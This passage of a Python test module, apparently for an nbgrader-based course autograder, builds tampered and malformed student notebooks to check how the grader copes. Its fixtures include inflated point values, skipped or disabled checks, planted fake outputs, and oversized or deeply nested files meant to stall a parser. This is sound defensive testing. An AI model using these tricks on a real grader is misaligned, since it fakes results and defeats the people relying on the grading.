    notebook.cells.reverse()
    return notebook


@kind(ALL)
def reordered_exercises(course):
    """The exercises in reverse order, each with its check behind it."""
    notebook = short(course)
    imports, *graded = notebook.cells
    pairs = [graded[index : index + 2] for index in range(0, 10, 2)]
    notebook.cells = [imports, *(cell for pair in reversed(pairs) for cell in pair)]
    return notebook


@kind(NONE, NOT_ATTEMPTED)
def more_points(course):
    """Checks that say of themselves that they are worth 1000 points."""
    notebook = short(course, {})
    for cell in checks(course, notebook):
        cell.metadata.nbgrader.points = 1000
    return notebook


@kind(ALL)
def other_metadata(course):
    """Checks and answers that say that they are none, or say so in a form that nbgrader refuses."""
    notebook = short(course)
    cells = course.cells(notebook)
    for cell in cells.values():
        del cell.metadata.nbgrader["schema_version"]
    cells[FIRST].metadata.nbgrader.update(grade=True, points=-3, locked=True)
    cells[f"{FIRST}_check"].metadata.nbgrader.update(grade=False, locked=False)
    cells[f"{SECOND}_check"].metadata.nbgrader.update(task=True, solution=True, points="many")
    cells[f"{THIRD}_check"].metadata.nbgrader.update(schema_version=99, surprise=[1, 2, 3])
    return notebook


@kind((2, 2, 2, 2, 0), "Exercise 5 is gone", "A cell of Exercise 5 is missing")
def no_metadata(course):
    """A wrong answer and its check without the names by which nbgrader knows them, and a check of the student's own."""
    notebook = short(course, {**course.right, FIFTH: WRONG[FIFTH]})
    cells = course.cells(notebook)
    cells[FIFTH].metadata["nbgrader"] = "nothing"
    cells[f"{FIFTH}_check"].metadata["nbgrader"] = {"grade_id": ["a", "list"]}
    extra = new_code_cell("pass", metadata={"nbgrader": {**cells[f"{FIRST}_check"].metadata.nbgrader, "grade_id": "x"}})
    notebook.cells.append(extra)
    return notebook


@kind(NONE, NOT_ATTEMPTED, stock=True)
def skipped_checks(course):
    """Checks with a tag that tells Jupyter not to run them."""
    notebook = short(course, {})
    for cell in checks(course, notebook):
        cell.metadata["tags"] = ["skip-execution"]
    return notebook


@kind(NONE, NOT_ATTEMPTED)
def checks_as_text(course):
    """Checks that were turned into text."""
    notebook = short(course, {})
    for number, cell in enumerate(checks(course, notebook)):
        place = notebook.cells.index(cell)
        notebook.cells[place] = new_raw_cell(cell.source, metadata=cell.metadata)
        if number % 2:
            notebook.cells[place].cell_type = "markdown"
    return notebook


@kind(ALL, "The cell of Exercise 5 held text", "It was run as code")
def answers_as_text(course):
    """Right answers that were turned into text."""
    notebook = short(course)
    for cell in notebook.cells[1::2]:
        cell.cell_type = "markdown"
        del cell["outputs"], cell["execution_count"]
    return notebook


@kind(ALL)
def kernel_of_another_language(course):
    """A notebook that says that it is written in R."""
    notebook = short(course)
    notebook.metadata.kernelspec = {"name": "ir", "display_name": "R", "language": "R"}
    notebook.metadata.language_info = {"name": "R"}
    return notebook


@kind(NONE, NOT_ATTEMPTED)
def planted_notes(course):
    """Notes of a grading that never was, and outputs that nobody's code has made."""
    notebook = short(course, {})
    note = {"student": "LEAK", "instructor": "LEAK", "look": True}
    notebook.metadata.cardiac_ml_course = {"grading": {"notes": [note], "seconds": 0.1}, "release": ["LEAK"]}
    notebook.metadata.unreadable = "LEAK"
    for cell in checks(course, notebook):
        cell.outputs = [new_output("execute_result", {"text/plain": "2"}, execution_count=1)]
    return notebook


# Files that are no notebooks, or odd ones.


@kind(NONE, AGAIN, UNREADABLE, look=True)
def half_a_file(course):
    """The first half of a notebook's file."""
    content = nbformat.writes(short(course)).encode()
    return content[: len(content) // 2]


@kind(NONE, "The file is empty", "The file is empty", look=True, stock=True)
def empty_file(course):
    """An empty file."""
    return b""


@kind(NONE, AGAIN, UNREADABLE, look=True)
def other_json(course):
    """JSON that is no notebook."""
    return b'[{"cells": 1}]'


@kind(NONE, AGAIN, UNREADABLE, look=True, stock=True)
def deep_json(course):
    """JSON with 100,000 levels of brackets."""
    return b'{"nbformat": 4, "cells": ' + b"[" * 100_000 + b"]" * 100_000 + b"}"


@kind(NONE, FOREIGN, FOREIGN, look=True)
def another_chapter(course):
    """The notebook of another chapter; its first cells are enough."""
    notebook = nbformat.reads(released_notebook("02_logistic_regression"), as_version=4)
    notebook.cells = [cell for cell in notebook.cells if "nbgrader" in cell.metadata][:2]
    return notebook


@kind(NONE, "The file is larger than 20 MB", "The file is larger than 20 MB", look=True)
def large_file(course):
    """A file of 50 MB."""
    notebook = short(course)
    notebook.cells.append(new_raw_cell("x" * 50 * 2**20))
    return nbformat.writes(notebook).encode()


@kind(ALL)
def with_a_byte_order_mark(course):
    """A file that begins with UTF-8's mark, as some editors on Windows write it."""
    return codecs.BOM_UTF8 + nbformat.writes(short(course)).encode()


@kind(ALL)
def in_utf_16(course):
    """A file in UTF-16."""
    return nbformat.writes(short(course)).encode("utf-16")


@kind(ALL)
def in_cp1252(course):
    """A file in the encoding of a Western Windows."""
    return json.dumps(above(course, FIRST, "print('PLACE')")).encode().replace(b"PLACE", "Zürich, 5 €".encode("cp1252"))


@kind(ALL)
def in_format_3(course):
    """A notebook in the format of before 2014."""
    return nbformat.writes(short(course), version=3).encode()


@kind(NONE, "more than 1000 cells", "more than 1000 cells", look=True)
def many_cells(course):
    """A file with 100,000 cells, which would hold up the class."""
    notebook = short(course)
    text = json.dumps(notebook)
    return text.replace(
        '"cells": [', '"cells": [' + '{"cell_type": "raw", "metadata": {}, "source": ""}, ' * 100_000
    ).encode()


@kind(ALL)
def odd_outputs(course):
    """Outputs of no known kind, saved in the file."""
    notebook = short(course)
    for cell in notebook.cells:
        cell.outputs = [5, {"output_type": "surprise"}]
    return notebook


@kind(ALL)
def odd_characters(course):
    """A null character, and halves of characters that no encoding can write."""
    notebook = above(course, FIRST, "print('\x00 \ud800')")
    notebook.cells.insert(0, new_raw_cell("\udfff", metadata={"\udfff": "\ud800"}))
    notebook.cells.append(new_code_cell("print('\\ud800 \\x1b[2J')"))
    return notebook
